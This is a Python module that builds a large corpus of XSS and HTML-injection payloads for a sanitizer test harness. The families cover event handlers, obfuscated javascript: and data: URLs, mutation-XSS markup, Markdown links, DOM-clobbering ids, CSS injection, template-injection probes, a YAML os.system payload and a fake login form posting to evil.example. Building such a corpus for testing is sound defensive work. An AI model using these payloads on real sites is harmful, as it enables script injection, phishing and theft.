"""Attacks, put together from their parts. In: nothing. Out: texts by family, always the same ones.

Each family is a way in: a handler, an address, markup that changes when it is parsed again, text
that Markdown makes live, names that shadow those of a page. What must become of them is said in
`alive`; bench/attacked_site.py tries all of them in a browser.
"""

# ruff: noqa: E501 - attacks are read as they are

import itertools
from collections.abc import Callable, Iterator
from html import escape
from typing import Final

FIRE: Final = "<img src=x onerror=alert(1)>"
_LIVE: Final = (
    FIRE,
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<b onclick=alert(1) id=location style=position:fixed>x</b>",
)
_EVENTS: Final = (
    "abort afterprint animationend auxclick beforecopy beforeinput beforematch beforetoggle"
    " beforexrselect begin blur cancel canplay click close command contentvisibilityautostatechange"
    " contextlost contextmenu cuechange dragend end error focus focusin formdata fullscreenchange"
    " gotpointercapture hashchange invalid keydown load loadstart message mouseover mousewheel"
    " overscroll pagereveal pageshow paste pointerrawupdate popstate progress readystatechange"
    " repeat resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicy"
    "violation select selectstart show slotchange snapchanged toggle touchstart transitionrun"
    " unload webkitanimationstart webkitplaybacktargetavailabilitychanged wheel"
).split()
_HOLDERS: Final = (
    "img video audio svg math details a p div h2 table td li pre code figure blockquote iframe"
    " input button body x-y dialog marquee source track"
).split()
_BEFORE: Final = (" ", "/", "\t", "\n", "\f", ' title="" ', " title='>' ", ' "" ', " a=b/", "\r\n")


def handlers() -> Iterator[str]:
    """Every kind of event on every kind of element, with whatever may stand before the name."""
    for number, (event, tag) in enumerate(itertools.product(_EVENTS, _HOLDERS)):
        if number % 4 == 0:
            before, name = _BEFORE[number // 4 % len(_BEFORE)], ("on", "ON", "oN")[number % 3]
            yield f"<{tag} src=x open tabindex=1 popover{before}{name}{event}=alert(1)>x</{tag}>"
    for tag, before in itertools.product(_HOLDERS, _BEFORE):
        yield f"<{tag}{before}onclick\n=\n'alert(1)'{before}autofocus onfocus=`alert(1)`>x</{tag}>"


_ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
    "javascript\n:alert(1)", "java\x00script:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert&lpar;1&rpar;", "&#1;javascript:alert(1)", "&#x1f;javascript:alert(1)",
    "javascript&#8203;:alert(1)", "\u2028javascript:alert(1)", "\xa0javascript:alert(1)",
    "\ufeffjavascript:alert(1)", "java\xadscript:alert(1)", "ja\u200bvascript:alert(1)",
    "java\u017fcript:alert(1)", "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)",
    "javascript://%0aalert(1)", "javascript:https://e.example/%0aalert(1)",
    "javascript%3Aalert(1)", "%6aavascript:alert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "vbscript:msgbox(1)",
    "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "DATA:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data&colon;text/html,x",
    "blob:https://e.example/1", "filesystem:https://e.example/x", "about:blank#alert(1)",
    "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "/\t/e.example",
    "https:evil.example", "https:/\\evil.example", "https://user:word@evil.example/",
    "https://e.example@evil.example/", "https://e.example\\@evil.example",
    "https://e.example/\"onmouseover=\"alert(1)", "https://e.example/'onmouseover='alert(1)",
    "https://e.example/><img src=x onerror=alert(1)>", "https://e.example/`onclick=alert(1)`",
    "https://e.example/)\n[x](javascript:alert(1)", "https://e.example/> <script>alert(1)</script>",
    "https://[::1]:99999/", "http://e.example:x/", "#\" onclick=\"alert(1)", "?\"><svg onload=alert(1)>",
    "mailto:a@b?body=\"><script>alert(1)</script>", "x:javascript:alert(1)", "tel:1;javascript:alert(1)",
)  # fmt: skip
_CARRIERS: Final = (
    '<a href="{0}">x</a>', "<a href='{0}'>x</a>", '<a href="{0}"><img src="{0}" alt="{0}"></a>',
    '<img src="{0}" srcset="{0} 1x, {0} 2x" sizes="{0}" longdesc="{0}" lowsrc="{0}" dynsrc="{0}">',
    '<svg><a xlink:href="{0}" href="{0}"><text y=20>x</text></a><use href="{0}"/></svg>',
    '<math><mrow href="{0}" xlink:href="{0}"><mtext>x</mtext></mrow>'
    '<maction actiontype="statusline#{0}" xlink:href="{0}">x</maction></math>',
    '<iframe src="{0}" title="t"></iframe>', '<embed src="{0}"><object data="{0}">x</object>',
    '<form action="{0}" id=f><input type=image src="{0}" formaction="{0}"></form>'
    '<button form=f formaction="{0}">x</button>',
    '<video src="{0}" poster="{0}"><source src="{0}" srcset="{0}"><track src="{0}"></video>',
    '<audio controls><source src="{0}"></audio>', '<picture><source srcset="{0}"><img src="{0}"></picture>',
    '<table background="{0}"><tr><td background="{0}" headers="{0}">x</td></tr></table>',
    '<blockquote cite="{0}">x</blockquote><q cite="{0}">x</q><del cite="{0}">x</del>',
    '<meta http-equiv=refresh content="0;url={0}"><base href="{0}"><link rel=stylesheet href="{0}">',
    '<map name=m><area href="{0}" ping="{0}" shape=default></map><img usemap=#m src=x>',
    '<a href="https://e.example/" ping="{0}" attributionsrc="{0}" target="{0}" rel="{0}">x</a>',
    '<script src="{0}"></script><frameset><frame src="{0}"></frameset><portal src="{0}"></portal>',
    '<svg><image href="{0}" xlink:href="{0}"/><animate attributeName=href values="{0}"/></svg>',
    '<p data-src="{0}" data-kind="{0}" data-title="{0}" class="embed code {0}">x</p>',
)  # fmt: skip
_IN_MARKDOWN: Final = (
    "[x]({0})", "[x](<{0}>)", "![x]({0})", "![x]({0}){{width=10 height=20}}", "<{0}>",
    "[x]: {0}\n\n[x] and ![x]", '[x]: <{0}> "{0}"\n\n[x][]', '[x](https://e.example/ "{0}")',
    "[![x]({0})]({0})", "[x]({0} '{0}')", "a[^1]\n\n[^1]: [x]({0})", "| a |\n|---|\n| [x]({0}) |",
    "$\\href{{{0}}}{{x}}$ and \\(\\url{{{0}}}\\)", "# [x]({0}) {{#{0}}}", "Term\n: [x]({0})",
    "{0}", "::: note {0}\n[x]({0})\n:::", "[[{0}]] and {{{0}}} and [x]{{href={0}}}",
)  # fmt: skip


def addresses() -> Iterator[str]:
    """Addresses that run, spy or confuse, wherever an address may stand."""
    for number, (address, carrier) in enumerate(itertools.product(_ADDRESSES, _CARRIERS)):
        if number % 2 == 0:
            yield carrier.format(address)


def markdown_addresses() -> Iterator[str]:
    for number, (address, form) in enumerate(itertools.product(_ADDRESSES, _IN_MARKDOWN)):
        if number % 2 == 0:
            yield form.format(address)


_POINTS: Final = (
    "svg:foreignObject svg:desc svg:title math:mi math:mo math:mn math:ms math:mtext"
    " math:annotation-xml svg:p math:p select:option table:caption template:p form:p"
).split()
_RAW: Final = (
    "style script xmp iframe noembed noframes noscript textarea title plaintext template"
).split()
_ESCAPES: Final = (
    '<{raw}><b title="</{raw}>{fire}">x</b></{raw}>',
    '<{raw}><!--</{raw}><b title="--&gt;{quoted}">',
    "<{raw}><![CDATA[</{raw}>{fire}]]></{raw}>",
    '<{raw}>&lt;/{raw}&gt;{quoted}</{raw}><{raw} title="</{raw}>{fire}">',
    "<{raw}></{root}>{fire}</{raw}>",
)


def mutations() -> Iterator[str]:
    """Markup that a second parse reads otherwise: raw text in foreign content, forms, tables."""
    quoted = escape(FIRE)
    for point, raw, form in itertools.product(_POINTS, _RAW, _ESCAPES):
        root, _, inner = point.partition(":")
        hidden = form.format(raw=raw, root=root, fire=FIRE, quoted=quoted)
        yield f"<{root}><{inner}>{hidden}</{inner}></{root}>"
    for outer, inner in itertools.product(("svg", "math"), _RAW):
        yield f"<{outer}></p><{inner}><a title='</{inner}>{FIRE}'></a>"
        yield f"<math><mtext><table><mglyph><{inner}><!--</{inner}><img title='--&gt;{quoted}'>"
        yield f"<form><{outer}><mtext></form><form><mglyph><{inner}></{outer}>{FIRE}"
        yield f"<table><{outer}><mi><tr><td><{inner}></{outer}>{FIRE}</{inner}></table>"
        yield f"<{outer}><annotation-xml encoding=text/html><{inner}>{FIRE}</{inner}>"
    for depth, tag in itertools.product(
        (79, 81, 250, 510, 520), ("div", "b", "blockquote", "font")
    ):
        yield f"<{tag}>" * depth + f"<svg><style><a title='</style>{FIRE}'>"
    for odd in ("<!-->", "<!--->", "<!--!>", "<!---!>", "<!--x--!>", "<?x >", "<![CDATA[>", "</ >"):
        yield f"{odd}{FIRE}-->"
        yield f"<p title='{odd}'>{odd}<b title='--!>{FIRE}'>x</b>"
        yield f"<pre>{odd}{quoted}</pre>{odd} {quoted}"


_DEPTHS: Final[tuple[Callable[[str], str], ...]] = (
    escape,
    lambda text: escape(escape(text)),
    lambda text: escape(escape(escape(text))),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3E;"),
    lambda text: text.replace("<", "&LT;").replace(">", "&GT;"),
    lambda text: text.replace("<", "&#0000060").replace(">", "&gt"),
    lambda text: text.replace("<", "\\&lt;").replace(">", "\\&gt;"),
    lambda text: text.replace("<", "&lt;<!-- -->").replace(">", "<b></b>&gt;"),
    lambda text: text.replace("<", "&lt;").replace(" ", "\n"),
)
_PLACES: Final = (
    "<p>{0}</p>", "<pre>{0}</pre>", "<pre><code class='language-html'>{0}</code></pre>",
    "<code>{0}</code>", '<img src=https://e.example/a.png alt="{0}" title="{0}">',
    '<a href=https://e.example/ title="{0}">{0}</a>', "<h2>{0}</h2>", "<li>{0}",
    "<details><summary>{0}</summary>{0}</details>", "<dl><dt>{0}<dd>{0}</dl>",
    "<figure><img src=https://e.example/a.png><figcaption>{0}</figcaption></figure>",
    "<table><caption>{0}</caption><tr><td colspan=2>{0}<th>{0}</table>",
    "<table><tr><th>{0}<tr><td>{0}</table>", "<blockquote>{0}</blockquote>",
    '<abbr title="{0}">{0}</abbr>', "<b>{0}</b><i>{0}</i><s>{0}</s><kbd>{0}</kbd>",
    "<ol type=a><li>{0}</ol>", "<textarea>{0}</textarea>", "<iframe src=x>{0}</iframe>",
    '<iframe src="https://www.youtube.com/embed/abcdefghijk" title="{0}"></iframe>',
    "<noscript>{0}</noscript><template>{0}</template>", "<script type=math/tex>{0}</script>",
    '<span class="math">\\({0}\\)</span>', "$${0}$$", "<sup id=fnref1><a href=#fn1>1</a></sup>"
    "<ol><li id=fn1>{0} <a href=#fnref1>back</a></ol>",
)  # fmt: skip


def quoted() -> Iterator[str]:
    """Attacks that are harmless text where they stand, and live once that text is read as HTML."""
    for live, depth, place in itertools.product(_LIVE, _DEPTHS, _PLACES):
        yield place.format(depth(live))


_SYNTAX: Final = (
    "{0}", "\n\n{0}\n\n", "- {0}", "> {0}", "    {0}", "\t{0}", "1. {0}", "# {0}", "*{0}*", "**{0}**",
    "`{0}`", "``` {0}\nx\n```", "~~~{0}\n{0}\n~~~", "```html\n```\n{0}", "| {0} |\n|---|\n| {0} |",
    "[{0}](https://e.example/)", "[x]: /a\n'{0}'\n\n[x]", "![{0}](https://e.example/a.png)",
    "[x](https://e.example/ \"{0}\")", "a[^1]\n\n[^1]: {0}", "[^{0}]\n\n[^{0}]: x", "Term {0}\n: {0}",
    "::: note {0}\n{0}\n:::", "::: {{.note onclick=alert(1)}}\n{0}\n:::", "=== {0}\n{0}", "!!! note {0}",
    "$${0}$$", "$\\text{{{0}}}$", "\\[\\style{{background:red}}{{{0}}}\\]", "\\({0}\\)",
    "x {{onclick=alert(1) #location .code}} {0}", "# x {{#location onclick={0}}}",
    "```python {{onclick=alert(1) title='{0}'}}\n{0}\n```", "```python title=\"{0}\" hl_lines=\"{0}\"\n{0}\n```",
    "<!-- {0} -->", "<!-->{0}-->", "<?php {0} ?>", "<![CDATA[{0}]]>", "<!X {0}>", "\\{0}", "&lt;{0}",
    "<div>\n\n{0}\n\n</div>", "<div\n{0}\n>", "<pre>\n{0}\n</pre>", "<details><summary>{0}</summary>\n\n{0}",
    "<p title='\n\n{0}\n\n'>", '<a href="https://e.example/\n\n{0}">', "</article></main>{0}", "</div></p>{0}",
    "<table><tr><td>\n\n{0}\n\n</td></tr></table>", "<b><i>{0}</b></i>", "<svg>\n\n{0}\n\n</svg>",
    "<script>\n\n{0}\n\n</script>", "<style>\n\n</style>{0}", "<textarea>\n\n</textarea>{0}", "- [ ] {0}",
    "<https://e.example/{0}>", "https://e.example/{0}", "www.e.example/{0}", "a@e.example{0}", "--- \n{0}",
)  # fmt: skip


def markdown() -> Iterator[str]:
    """Attacks in and across everything that Markdown knows, as HTML and quoted."""
    texts = (*_LIVE, escape(FIRE), "</code></pre>" + FIRE, '"><svg onload=alert(1)>')
    for form, text in itertools.product(_SYNTAX, texts):
        yield form.format(text)
    yield from markdown_addresses()


def markdown_in_html() -> Iterator[str]:
    """The same as the text of a feed's HTML, where it must stay text, whole or in parts."""
    for number, text in enumerate(markdown()):
        lines = escape(text).replace("\n", "<br>" if number % 2 else "</p><p>")
        yield f"<p>{lines}</p>"
        if number % 3 == 0:
            middle = len(text) // 2
            yield f"<p>{escape(text[:middle])}<b></b>{escape(text[middle:])}</p>"


_GLOBALS: Final = (
    "location name body head cookie domain forms images attributes children innerHTML nodeName"
    " parentNode getElementById querySelector querySelectorAll createElement currentScript"
    " defaultView documentElement search-form searchIndex config base said display toc main"
    " __proto__ constructor prototype toString hasOwnProperty then self top window globalThis"
    " localStorage history closed length fetch CSS panel-title search-line"
).split()
_NAMED: Final = (
    '<a id="{0}" name="{0}" href="https://evil.example/">x</a>', '<h2 id="{0}">{0}</h2>',
    '<img name="{0}" id="{0}" src="https://e.example/a.png">', '<p id="{0}" class="{0}">x</p>',
    '<form name="{0}" id="{0}"><input name="{0}" id="{0}"><output form="{0}"></form>',
    '<iframe name="{0}" src="https://evil.example/" srcdoc="<a id={0}>"></iframe>',
    '<object id="{0}" name="{0}"></object><embed name="{0}">', '<a name="{0}"></a><h3>x</h3>',
    "# {0} {{#{0}}}", "[^{0}]\n\n[^{0}]: {0}", "[{0}]: #{0}\n\n[{0}]", "# {0}",
    '<div popover id="{0}">x</div><button popovertarget="{0}" commandfor="{0}" command="--x">x</button>',
    '<template shadowrootmode=open><slot name="{0}"></slot></template>', '<b slot="{0}" part="{0}">x</b>',
    '<span is="{0}" contenteditable nonce="{0}" accesskey=x itemprop="{0}" role="{0}">x</span>',
)  # fmt: skip


def names() -> Iterator[str]:
    """Ids and names that would shadow what the page's own scripts look for."""
    for name, form in itertools.product(_GLOBALS, _NAMED):
        yield form.format(name)


_STYLES: Final = (
    "position:fixed;inset:0;z-index:9999", "background:url(https://evil.example/t)", "width:expression(alert(1))",
    "behavior:url(x.htc)", "-moz-binding:url(x)", "@import 'https://evil.example/x.css'", "color:re\\64;x:\\75rl(x)",
    "}*{display:none}", "</style><script>alert(1)</script>", "background:url(javascript:alert(1))",
    "background:image-set('https://evil.example/t' 1x)", "content:attr(x)", "animation:x 1s", "x:y;/*",
)  # fmt: skip
_STYLED: Final = (
    '<p style="{0}">x</p>', "<style>p{{{0}}}</style><p>x</p>", "<style>{0}</style>", '<font style="{0}">x</font>',
    '<svg><style>{0}</style><rect style="{0}" fill="{0}"/></svg>', '<table><td style="{0}" bgcolor="{0}">x</table>',
    '<pre style="{0}"><code style="{0}">x</code></pre>', '<link rel=stylesheet href="data:text/css,{0}">',
    '<p class="{0} code embed tabs zooms">x</p>', '<img src=https://e.example/a.png style="{0}" width="{0}" height="{0}">',
    '<?xml-stylesheet href="data:text/css,{0}"?><p>x</p>', '<math><mstyle style="{0}" mathbackground="{0}"/></math>',
)  # fmt: skip


def styles() -> Iterator[str]:
    for style, form in itertools.product(_STYLES, _STYLED):
        yield form.format(style)


_ENDS: Final = (
    "</title>", "</script>", "</style>", "</textarea>", "</article>", "</main></body></html>", "-->", "]]>",
    '">', "'>", "`>", "\\\">", '"}', "\\u003c/script>", "\u2028", "\u2029", "\x85", "\ufeff", "\u202e", "%3E",
    "--- \n---\n", "\n...\n", "\ndraft: true\n", "*/", "{{ 7*7 }}", "{% raw %}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "!!python/object/apply:os.system [id] ", "&anchor *alias ", "\u017fcript", "+ADw-script+AD4-",
    "<scr<script>ipt>", "<scr\x00ipt>", "<\x0bscript>", "< script>", "<%00script>", "\uff1cscript\uff1e", "\u226a",
)  # fmt: skip


def fields() -> Iterator[str]:
    """What ends the place where a title, tag or author is shown: HTML, JSON, YAML, template, XML."""
    for end, live in itertools.product(_ENDS, _LIVE):
        yield f"{end}{live}"
        yield f"a {end} b {escape(live)}"


_ACTIVE: Final = (
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta charset=utf-7>",
    "<link rel=import href=x>", "<link rel=preload as=script href=x>", "<link rel=manifest href=x>",
    "<form action=https://evil.example/><input type=password name=p><button>Log in</button></form>",
    "<isindex action=javascript:alert(1) type=image>", "<keygen autofocus onfocus=alert(1)>",
    "<object data=x type=text/html><param name=src value=javascript:alert(1)></object>", "<applet code=x></applet>",
    "<embed src=x allowscriptaccess=always>", "<frameset onload=alert(1)><frame src=x></frameset>",
    "<portal src=x></portal>", "<fencedframe></fencedframe>", "<layer src=x></layer>", "<bgsound src=x>",
    "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<dialog open onclose=alert(1)>x</dialog>", "<marquee onstart=alert(1)>x</marquee>", "<image src=x onerror=alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=data:,alert(1) />", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\">",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<svg><handler type=text/javascript>alert(1)",
    "<math><maction actiontype=toggle onclick=alert(1)><mi>x</mi></maction></math>", "<xml onreadystatechange=alert(1)>",
    "<?xml-stylesheet type=text/xsl href=javascript:alert(1)?>", "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<html:script>alert(1)</html:script>",
    "<select><style></select><script>alert(1)</script></style>", "<select><option><img src=x onerror=alert(1)>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y", "<input type=image src=x formaction=x>",
    "<video><source onerror=alert(1)></video>", "<audio src onloadstart=alert(1)>", "<track default oncuechange=alert(1)>",
    "<iframe src=https://evil.example/ allow=camera sandbox></iframe>", "<iframe src=https://www.youtube.com.evil.example/embed/x>",
    "<iframe src=https://www.youtube-nocookie.com/embed/abcdefghijk onload=alert(1) srcdoc=x name=location></iframe>",
    "<iframe src=https://www.youtube-nocookie.com/embed/../redirect?q=x></iframe>", "<iframe src=https://codepen.io/x></iframe>",
    "<iframe src=\"https://codepen.io/a/embed/b?'><script>alert(1)</script>\"></iframe>", "<iframe src=//codepen.io/a/embed/b></iframe>",
    "<iframe src=https://user@codepen.io/a/embed/b></iframe>", "<iframe src=https://codepen.io:8443/a/embed/b></iframe>",
)  # fmt: skip


def active() -> Iterator[str]:
    """Elements that do something by themselves, alone, in others, in upper case and cut off."""
    for live in (*_ACTIVE, *_LIVE):
        yield from (
            live,
            live.swapcase(),
            live[:-1],
            f"<p>{live}</p>",
            f"<pre><code>{live}</code></pre>",
        )
        yield from (
            f"<table>{live}</table>",
            f"<li>{live}",
            f"<details><summary>{live}</summary>{live}",
        )
        yield live.replace(" ", "\x0c")
        yield "".join(f"<{part}" for part in live.split("<") if part) * 2 + "<!--"


FAMILIES: Final[dict[str, Callable[[], Iterator[str]]]] = {
    "handlers": handlers,
    "addresses": addresses,
    "mutations": mutations,
    "quoted": quoted,
    "markdown": markdown,
    "markdown in HTML": markdown_in_html,
    "names": names,
    "styles": styles,
    "fields": fields,
    "active elements": active,
}


def attacks() -> Iterator[tuple[str, str]]:
    """All of them, each with its family."""
    for family, made in FAMILIES.items():
        for text in made():
            yield family, text
